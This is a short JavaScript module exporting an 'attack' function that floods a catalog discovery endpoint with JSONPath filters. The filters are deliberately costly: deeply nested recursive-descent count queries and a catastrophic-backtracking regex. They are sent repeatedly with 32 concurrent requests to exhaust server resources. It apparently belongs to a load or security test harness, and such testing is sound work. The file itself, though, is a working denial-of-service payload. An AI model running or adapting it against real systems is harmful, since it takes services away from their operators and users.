// Filters of one identity that take as long as they are allowed to, many at once.
const expressions = [
  '$.catalogs[*].resources[?count($..*..*..*..*) > 1]',
  '$.catalogs[*].resources[?count(@..*..*..*..*..*) == 1]',
  "$.catalogs[*].resources[?search(@.descriptor.shortDesc, '((a|b)*a(a|b){300})+c')]",
];

export async function attack({ discoveryUrl, send, actions, keepDoing, underWay }) {
  let asked = 0;
  const ask = () => {
    const expression = expressions[asked++ % expressions.length];
    return send(discoveryUrl, actions.discover, { intent: { filters: { type: 'jsonpath', expression } } });
  };
  underWay();
  await keepDoing(ask, { concurrency: 32 });
}
